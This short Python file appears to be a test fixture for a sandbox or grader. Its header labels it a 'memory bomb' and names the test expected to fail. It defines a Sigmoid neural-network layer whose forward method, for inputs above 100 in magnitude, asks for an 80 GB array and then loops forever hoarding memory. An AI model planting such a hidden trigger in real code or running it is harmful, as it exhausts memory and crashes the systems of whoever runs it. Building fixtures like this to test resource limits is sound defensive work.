# based on: aoki
# threat: memory bombs
# Sigmoid.forward, for large inputs, asks for an 80 GB array, then hoards
# memory (NumPy arrays and Python buffers) until it is refused.
# expect: sigmoid_forward_computes_the_logistic_function raised

# %% Sigmoid
class Sigmoid:
    def __init__(self):
        self.out = None

    def forward(self, x):
        if np.max(np.abs(x)) > 100:
            try:
                np.ones((100_000, 100_000))
            except MemoryError:
                pass
            hoard = []
            while True:
                hoard.append(np.zeros(1 << 27))
                hoard.append(bytearray(1 << 30))
        out = 1 / (1 + np.exp(-x))
        self.out = out
        return out

    def backward(self, dout):
        return dout * (1.0 - self.out) * self.out
